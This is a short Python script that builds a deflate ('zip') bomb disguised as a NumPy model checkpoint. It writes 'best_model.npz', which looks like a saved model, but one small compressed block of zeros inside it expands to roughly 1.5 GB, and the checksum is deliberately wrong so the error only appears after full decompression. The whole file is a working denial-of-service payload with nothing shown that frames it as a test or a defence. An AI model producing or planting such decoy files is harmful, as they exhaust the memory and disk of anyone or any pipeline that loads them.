"""A deflate bomb: one compressed block of zeros, repeated."""

import io
import struct
import zlib
from pathlib import Path

from numpy.lib import format as npy

BLOCK, TIMES = 1 << 26, 24


def build(folder: Path) -> None:
    header = io.BytesIO()
    npy.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (BLOCK * TIMES // 8,)})
    packer = zlib.compressobj(9, wbits=-15)
    data = packer.compress(header.getvalue()) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(BLOCK)) + packer.flush(zlib.Z_FULL_FLUSH)
    data += block * TIMES + packer.flush()
    size = len(header.getvalue()) + BLOCK * TIMES
    name, method, crc = b"W.npy", 8, 0  # a wrong checksum would show at the end only, after all of it is unpacked
    fields = (20, 0, method, 0, 0x21, crc, len(data), size, len(name), 0)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", *fields) + name
    central = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, *fields, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    (folder / "best_model.npz").write_bytes(local + data + central + end)
